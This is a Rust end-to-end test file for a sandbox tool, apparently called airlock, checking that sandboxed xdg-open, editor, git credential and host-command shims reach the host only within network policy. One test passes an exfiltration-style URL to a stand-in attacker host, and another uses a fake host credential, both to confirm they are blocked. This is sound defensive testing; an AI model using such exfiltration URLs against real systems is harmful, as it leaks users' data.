//! End to end: a daemon under a temp HOME, `airlock run` sandboxes calling the shims inside, the
//! fake host programs receiving what the host would.

use std::fs;
use std::io::Write as _;
use std::process::{Command, Output, Stdio};

use crate::harness::{World, airlock};

/// `airlock run --network none -- ARGV` in the world's project, with `stdin`.
fn run_in_sandbox(w: &World, argv: &[&str], stdin: &[u8]) -> Output {
    run_in_sandbox_with(w, &["--network", "none"], argv, stdin)
}

/// The same with other `airlock run` options.
pub(crate) fn run_in_sandbox_with(
    w: &World,
    options: &[&str],
    argv: &[&str],
    stdin: &[u8],
) -> Output {
    let mut cmd = Command::new(airlock());
    cmd.arg("run")
        .args(options)
        .arg("--")
        .args(argv)
        .env_clear()
        .env("HOME", &w.home)
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("SHELL", "/bin/sh")
        .env("LANG", "C.UTF-8")
        .current_dir(&w.project)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    let mut input = child.stdin.take().unwrap();
    // The workload may exit without reading its stdin: a broken pipe here is fine.
    let _ = input.write_all(stdin);
    drop(input);
    child.wait_with_output().unwrap()
}

pub(crate) fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Whether this machine can run a sandbox at all; prints why not.
pub(crate) fn sandbox_works(w: &World, test: &str) -> bool {
    let out = run_in_sandbox(w, &["true"], b"");
    if !out.status.success() {
        println!(
            "SKIP {test}: `airlock run -- true` fails here ({}): {}",
            out.status,
            text(&out.stderr).trim()
        );
        return false;
    }
    true
}

#[test]
fn xdg_open_inside_reaches_the_host_opener() {
    let mut w = World::installed();
    if !sandbox_works(&w, "xdg_open_inside_reaches_the_host_opener") {
        return;
    }
    w.start();
    let proxy = ["--network", "proxy", "--allow-host", "example.com"];
    let out = run_in_sandbox_with(&w, &proxy, &["xdg-open", "https://example.com/x"], b"");
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        w.calls(),
        [["xdg-open", "https://example.com/x"]],
        "{}",
        text(&out.stderr)
    );
    // The call went through airlock-shim (built beside the airlock under test), not airlock.
    let link = run_in_sandbox_with(&w, &proxy, &["readlink", "/run/airlock/bin/xdg-open"], b"");
    assert_eq!(text(&link.stdout), "/run/airlock/airlock-shim\n");
    // Only what this sandbox's network policy reaches: no exfiltration through the host browser,
    // no host services, nothing at all from --network none.
    for (options, url, says) in [
        (
            &proxy[..],
            "https://attacker.example/?d=secret",
            "not allowed by this sandbox's network policy",
        ),
        (
            &proxy[..],
            "http://127.0.0.1:8080/admin",
            "this host or a private address",
        ),
        (
            &["--network", "none"][..],
            "https://example.com/y",
            "no network",
        ),
    ] {
        let out = run_in_sandbox_with(&w, options, &["xdg-open", url], b"");
        assert!(
            text(&out.stderr).contains(says),
            "{url}: {}",
            text(&out.stderr)
        );
    }
    assert_eq!(w.calls().len(), 1, "nothing else was opened");
    // $BROWSER names the same shim, for tools that honour it.
    let out = run_in_sandbox_with(
        &w,
        &proxy,
        &["sh", "-c", "\"$BROWSER\" https://example.com/browser"],
        b"",
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(w.calls()[1], ["xdg-open", "https://example.com/browser"]);
}

#[test]
fn code_inside_reaches_the_editor_with_host_paths() {
    let mut w = World::installed();
    if !sandbox_works(&w, "code_inside_reaches_the_editor_with_host_paths") {
        return;
    }
    fs::create_dir_all(w.project.join("src")).unwrap();
    fs::write(w.project.join("src/main.rs"), "fn main() {}\n").unwrap();
    w.start();
    let out = run_in_sandbox(
        &w,
        &[
            "sh",
            "-c",
            "cd src && code main.rs && echo hi > ~/notes.txt && codium ~/notes.txt",
        ],
        b"",
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let calls = w.calls();
    assert_eq!(
        calls[0],
        [
            "code".to_owned(),
            w.project.join("src/main.rs").display().to_string()
        ]
    );
    assert_eq!(calls[1][0], "codium");
    let host_path = std::path::PathBuf::from(&calls[1][1]);
    assert!(host_path.ends_with("home/notes.txt"), "{host_path:?}");
    assert!(
        host_path.starts_with(w.home.join(".local/share/airlock/sandboxes")),
        "{host_path:?}"
    );
    assert_eq!(
        fs::read_to_string(&host_path).unwrap(),
        "hi\n",
        "the host path holds the sandbox file"
    );
    // A sandbox-only path is refused inside, before any request.
    let out = run_in_sandbox(&w, &["sh", "-c", "echo x > /tmp/t && code /tmp/t"], b"");
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out.stderr).contains("tmpfs"), "{}", text(&out.stderr));
    assert_eq!(w.calls().len(), 2);
}

#[test]
fn git_credential_fill_inside_returns_the_host_helpers_answer() {
    let mut w = World::installed();
    if !sandbox_works(
        &w,
        "git_credential_fill_inside_returns_the_host_helpers_answer",
    ) {
        return;
    }
    if !std::path::Path::new("/usr/bin/git").exists() {
        println!(
            "SKIP git_credential_fill_inside_returns_the_host_helpers_answer: git is not installed (apt-get install git)"
        );
        return;
    }
    // The project names no remote here: the config adds the host.
    w.write_config("[bridge]\ncredential_hosts = [\"forge.example\"]\n");
    w.start();
    let proxy = ["--network", "proxy", "--allow-host", "forge.example"];
    let out = run_in_sandbox_with(
        &w,
        &proxy,
        &["git", "credential", "fill"],
        b"protocol=https\nhost=forge.example\n\n",
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let answer = text(&out.stdout);
    assert!(
        answer.contains("username=dev") && answer.contains("password=s3cret-from-host"),
        "{answer}"
    );
    assert_eq!(
        w.calls()[0],
        ["git", "credential", "fill"],
        "the host's git ran the fill"
    );
    // Another host: the host's token is not handed out, and git never ran for it.
    let out = run_in_sandbox_with(
        &w,
        &["--network", "proxy", "--allow-host", "other.example"],
        &[
            "sh",
            "-c",
            "printf 'protocol=https\\nhost=other.example\\n\\n' | git -c credential.interactive=never credential fill; true",
        ],
        b"",
    );
    assert!(
        !text(&out.stdout).contains("s3cret"),
        "{}",
        text(&out.stdout)
    );
    assert_eq!(w.calls().len(), 1, "{:?}", w.calls());
    // The registration is a sandbox-local system config, pointing at the shim by absolute path.
    let out = run_in_sandbox(
        &w,
        &["git", "config", "--system", "--get", "credential.helper"],
        b"",
    );
    assert_eq!(
        text(&out.stdout).trim(),
        "/run/airlock/bin/git-credential-airlock"
    );
}

#[test]
fn host_commands_and_sounds_from_inside() {
    let mut w = World::installed();
    if !sandbox_works(&w, "host_commands_and_sounds_from_inside") {
        return;
    }
    w.start();
    let out = run_in_sandbox(&w, &["proximo", "status", "--json"], b"");
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        text(&out.stdout),
        "proximo says: status --json\nto stderr\n"
    );
    let out = run_in_sandbox(&w, &["proximo", "errors"], b"");
    assert_eq!(
        out.status.code(),
        Some(3),
        "the host command's exit code passes through"
    );
    let out = run_in_sandbox(&w, &["proximo", "up", "-o/tmp/x"], b"");
    assert_eq!(out.status.code(), Some(125));
    assert!(
        text(&out.stderr).contains("refused"),
        "{}",
        text(&out.stderr)
    );

    fs::write(w.project.join("chime.mp3"), b"ID3 chime bytes").unwrap();
    let out = run_in_sandbox(
        &w,
        &["sh", "-c", "cp chime.mp3 /tmp/c.mp3 && paplay /tmp/c.mp3"],
        b"",
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let played = w.base().join("played.mp3");
    crate::harness::wait_for("the host player", || {
        fs::read(&played).is_ok_and(|b| b == b"ID3 chime bytes")
    });
}

#[test]
fn without_the_bridge_xdg_open_says_to_install_it() {
    let w = World::new();
    if !sandbox_works(&w, "without_the_bridge_xdg_open_says_to_install_it") {
        return;
    }
    let out = run_in_sandbox(&w, &["xdg-open", "https://example.com/"], b"");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    let lines: Vec<&str> = err.lines().filter(|l| l.starts_with("xdg-open")).collect();
    assert_eq!(lines.len(), 1, "{err}");
    assert!(
        lines[0].contains("airlock bridge install") && lines[0].contains("on the host"),
        "{err}"
    );
}

#[test]
fn bridge_false_leaves_no_trace() {
    let w = World::installed();
    if !sandbox_works(&w, "bridge_false_leaves_no_trace") {
        return;
    }
    fs::create_dir_all(w.config_file().parent().unwrap()).unwrap();
    fs::write(w.config_file(), "[sandbox]\nbridge = false\n").unwrap();
    let out = run_in_sandbox(
        &w,
        &[
            "sh",
            "-c",
            // /run/airlock itself may hold other tools' files (shell init when e.g. starship is
            // installed on the host); the bridge's are under /run/airlock/bridge.
            "test -e /run/airlock/bridge && echo present; echo \"BROWSER=$BROWSER\"; command -v xdg-open || true",
        ],
        b"",
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "BROWSER=\n");
}
